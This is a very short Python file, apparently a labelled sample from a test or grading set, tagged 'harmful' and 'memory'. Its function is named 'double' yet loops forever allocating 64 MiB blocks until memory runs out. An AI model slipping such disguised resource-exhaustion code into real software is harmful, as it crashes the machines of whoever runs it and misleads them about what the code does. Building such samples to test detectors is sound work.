"""Fills the memory in the call."""

# score: 0
# verdicts: memory
# plain: harmful

# %%
def double(x):
    hoard = []
    while True:
        hoard.append(bytearray(2**26))
